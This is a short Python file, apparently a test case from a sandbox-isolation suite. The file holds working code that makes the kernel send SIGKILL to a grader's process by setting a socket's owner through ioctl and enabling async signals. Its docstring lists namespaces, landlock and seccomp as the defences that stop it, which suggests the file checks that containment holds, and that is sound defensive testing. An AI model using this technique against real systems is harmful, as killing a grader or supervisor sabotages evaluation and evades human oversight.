"""Has the kernel send a signal to a process of the grader's: the owner of a socket is set by ioctl.

stopped by: namespaces, landlock, seccomp
"""

import fcntl
import json
import os
import socket
import struct
import time

SET_OWNER, SET_SIGNAL, TELLS = 0x8901, 10, os.O_NONBLOCK | 0o20000


def attack():
    reader, writer = socket.socketpair()
    fcntl.ioctl(reader, SET_OWNER, struct.pack("i", json.load(open("world.json"))["victim"]))
    fcntl.fcntl(reader, SET_SIGNAL, 9)
    fcntl.fcntl(reader, fcntl.F_SETFL, TELLS)
    writer.send(b"x")
    time.sleep(0.2)
    return False
